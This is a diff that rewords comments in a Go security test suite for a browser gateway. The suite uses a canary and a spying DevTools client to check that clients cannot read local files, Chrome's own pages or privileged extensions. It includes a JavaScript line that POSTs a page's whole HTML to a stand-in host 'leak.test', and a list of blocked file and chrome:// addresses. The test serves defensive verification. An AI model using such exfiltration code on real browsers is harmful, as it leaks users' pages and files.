@@ -24,13 +24,13 @@ import (
 	"warren/testnet"
 )
 
-// canary is a folder with a page that nobody may have: its text is random, and its picture of one color.
+// canary is a folder with a page that no client may read: its text is random, and its picture has one color.
 type canary struct {
 	folder, file, text string
-	known              string // another one, whose name the client knows
+	known              string // another file, whose name the client knows
 
 	mu      sync.Mutex
-	arrived []string // by which ways its text has come
+	arrived []string // the ways by which its text has leaked
 }
 
 func randText() string { return rand.Text() }
@@ -48,7 +48,7 @@ func newCanary(t *testing.T) *canary {
 	return c
 }
 
-// look searches what has come, as it stands and in base64 wherever the text may begin in it.
+// look searches a message for the text, plain and in base64 at any offset.
 func (c *canary) look(way string, raw []byte) {
 	found := bytes.Contains(raw, []byte(c.text))
 	for skip := range 3 {
@@ -68,7 +68,7 @@ func (c *canary) ways() []string {
 	return slices.Clone(c.arrived)
 }
 
-// spy is a client that attaches to all that it can, and asks for the document as fast as it can, on every session that it had of late.
+// spy is a client that attaches to everything and requests the document of each recent session as fast as it can.
 type spy struct {
 	t      *testing.T
 	socket *websocket.Conn
@@ -84,12 +84,12 @@ type spy struct {
 	ended    []string
 }
 
-// leak sends the document to a site of the spy's, where it runs.
+// leak sends the document to the spy's site, wherever the script runs.
 const leak = `fetch("http://leak.test/leak", {method: "POST", mode: "no-cors", body: document.documentElement.outerHTML})`
 
 func newSpy(t *testing.T, b *Browser, c *canary) *spy { t.Helper(); return newSpyWith(t, b, c, true) }
 
-// newSpyWith connects one that may use files of the machine, or may not.
+// newSpyWith connects a spy with or without access to this machine's files.
 func newSpyWith(t *testing.T, b *Browser, c *canary, files bool) *spy {
 	t.Helper()
 	ctx, cancel := context.WithTimeout(t.Context(), testnet.Patience)
@@ -190,7 +190,7 @@ func (s *spy) ask(session, method string, params any) message {
 	return message{}
 }
 
-// prepare is what a session is given as soon as it is there, and lets the target go on.
+// prepare sends a new session its first commands and resumes the target.
 func (s *spy) prepare(session string) {
 	for _, c := range []struct {
 		method string
@@ -207,7 +207,7 @@ func (s *spy) prepare(session string) {
 	}
 }
 
-// poll asks on every session until stop is closed.
+// poll queries every session until stop is closed.
 func (s *spy) poll(stop <-chan struct{}) {
 	for {
 		s.mu.Lock()
@@ -227,7 +227,7 @@ func (s *spy) poll(stop <-chan struct{}) {
 			}
 		}
 		select {
-		case <-s.send("", "Browser.getVersion", nil): // no more at once than the browser can answer
+		case <-s.send("", "Browser.getVersion", nil): // limits the queries to what the browser can answer
 		case <-s.done:
 			return
 		case <-stop:
@@ -241,7 +241,7 @@ func (s *spy) poll(stop <-chan struct{}) {
 	}
 }
 
-// site takes what scripts of the spy's send.
+// site collects what the spy's scripts send.
 func (c *canary) site(n *testnet.Site) {
 	n.Mux.HandleFunc("/leak", func(_ http.ResponseWriter, r *http.Request) {
 		raw, _ := io.ReadAll(r.Body)
@@ -254,7 +254,7 @@ func (c *canary) site(n *testnet.Site) {
 	})
 }
 
-// closed are addresses that are closed to clients.
+// closed returns addresses that are blocked for clients.
 func (c *canary) closed() []string {
 	return []string{
 		"file://" + c.known, "file://" + c.folder + "/", "view-source:file://" + c.known, "chrome://version/", "chrome://settings/",
@@ -262,7 +262,7 @@ func (c *canary) closed() []string {
 	}
 }
 
-// withExtension has an extension loaded, as no client can, and returns what runs a script in it.
+// withExtension loads an extension, as no client can, and returns a function that runs a script in it.
 func withExtension(t *testing.T, b *Browser) (run func(script string)) {
 	t.Helper()
 	dir := t.TempDir()
@@ -305,11 +305,11 @@ func withExtension(t *testing.T, b *Browser) (run func(script string)) {
 	}
 }
 
-// TestExtensionsThatReadFiles: a client gets at no page of an extension that may read files of the machine, which would hand them on.
+// TestExtensionsThatReadFiles: a client cannot reach a page of an extension that may read files of this machine.
 func TestExtensionsThatReadFiles(t *testing.T) {
 	b, _, _ := startGuarded(t)
 	c := dial(t, serveGateway(t, b)+"/")
-	// that one attaches to a file's page
+ // attaches to a file's page
 	for _, may := range []string{`"host_permissions": ["<all_urls>"]`, `"permissions": ["debugger"]`} {
 		refusesExtension(t, b, c, may)
 	}
@@ -366,8 +366,8 @@ func inBothModes(t *testing.T, test func(t *testing.T, network string)) {
 	})
 }
 
-// TestClosedPages: whoever has a tab go to a file, or to a page of Chrome's own, no client gets a byte of it, nor a session on it; the tab
-// is closed.
+// TestClosedPages: if a tab goes to a file or to one of Chrome's own pages, by whatever way, no client gets a byte of it or a session on
+// it, and the tab is closed.
 func TestClosedPages(t *testing.T) {
 	inBothModes(t, func(t *testing.T, network string) {
 		p, c := newProfile(t), newCanary(t)
@@ -436,7 +436,7 @@ func TestClosedPages(t *testing.T) {
 			t.Errorf("after %d tries the canary came %d times, first by %q", tries, len(got), got[:min(len(got), 8)])
 		}
 		s.knowsNothing(b)
-		// What has been looked for can be found.
+		// The search works at all.
 		s.tab(b, "http://a.test/canary")
 		again := make(chan struct{})
 		go s.poll(again)
@@ -448,7 +448,7 @@ func TestClosedPages(t *testing.T) {
 	})
 }
 
-// tab opens a page that the spy is attached to.
+// tab opens a page and attaches the spy to it.
 func (s *spy) tab(b *Browser, address string) Page {
 	s.t.Helper()
 	m := s.ask("", "Target.createTarget", map[string]any{"url": address})
@@ -463,7 +463,7 @@ func (s *spy) tab(b *Browser, address string) Page {
 	return found
 }
 
-// drop drags files to a page that does not take them.
+// drop drags files to a page that does not accept them.
 func (s *spy) drop(target string, files ...string) {
 	s.t.Helper()
 	session := field(s.t, s.ask("", "Target.attachToTarget", map[string]any{"targetId": target, "flatten": true}).Result, "sessionId")
@@ -473,7 +473,7 @@ func (s *spy) drop(target string, files ...string) {
 	}
 }
 
-// knowsNothing: the client was told of no target, and attached to none, that is closed to it.
+// knowsNothing checks that the client has neither been told of a blocked target nor been attached to one.
 func (s *spy) knowsNothing(b *Browser) {
 	s.t.Helper()
 	s.mu.Lock()
@@ -487,8 +487,8 @@ func (s *spy) knowsNothing(b *Browser) {
 	}
 }
 
-// TestPersonsPages: at a browser with windows, a person's files and settings stay; clients are off them while they are there, and on the
-// tab again after it.
+// TestPersonsPages: in a browser with windows a person's files and settings stay open. Clients are detached from the tab meanwhile, and
+// attached again afterwards.
 func TestPersonsPages(t *testing.T) {
 	p, c := newProfile(t), newCanary(t)
 	c.site(p.site)
